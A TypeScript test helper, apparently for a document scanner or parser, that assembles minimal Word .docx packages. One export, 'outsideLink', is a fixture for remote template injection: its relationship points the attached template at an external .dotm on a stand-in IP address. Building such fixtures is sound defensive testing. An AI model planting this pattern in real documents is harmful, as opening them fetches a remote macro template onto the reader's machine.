import { zipBytes } from './cli/zip-bytes.ts';

const relationships = (...inner: readonly string[]): string =>
  `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${inner.join('')}</Relationships>`;

const officeType = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';

/** A Word document around the XML of its body, with other parts beside. */
export function docxOf(body: string, more: Readonly<Record<string, string>> = {}): Buffer {
  const parts = {
    '_rels/.rels': relationships(
      `<Relationship Id="r1" Type="${officeType}/officeDocument" Target="word/document.xml"/>`,
    ),
    'word/document.xml': `<?xml version="1.0"?><w:document xmlns:w="w"><w:body>${body}</w:body></w:document>`,
    ...more,
  };
  return zipBytes(Object.entries(parts).map(([name, bytes]) => ({ name, bytes })));
}

export const outsideLink = relationships(
  `<Relationship Id="r9" Type="${officeType}/attachedTemplate" Target="http://192.0.2.1/x.dotm" TargetMode="External"/>`,
);
